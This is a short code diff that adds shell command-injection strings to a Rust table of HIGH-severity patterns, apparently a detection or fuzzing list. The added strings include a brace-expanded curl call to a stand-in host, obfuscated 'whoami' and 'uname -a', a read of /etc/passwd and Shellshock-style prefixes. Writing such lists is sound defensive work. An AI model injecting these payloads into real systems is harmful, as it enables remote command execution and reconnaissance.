@@ -10,6 +10,13 @@ const TABLE: &[(u8, &[&str])] = &[
     (
         HIGH,
         &[
+            "$({curl,evil.example})",
+            ";wh``oami",
+            ";$0<<<id",
+            ";\\u\\n\\a\\m\\e -a",
+            ";diff /etc/passwd /etc/group",
+            "() { :",
+            "() { _",
             "1;Get-Process",
             "| Get-ChildItem -Recurse",
             "127.0.0.1 & start-sleep -s 10",
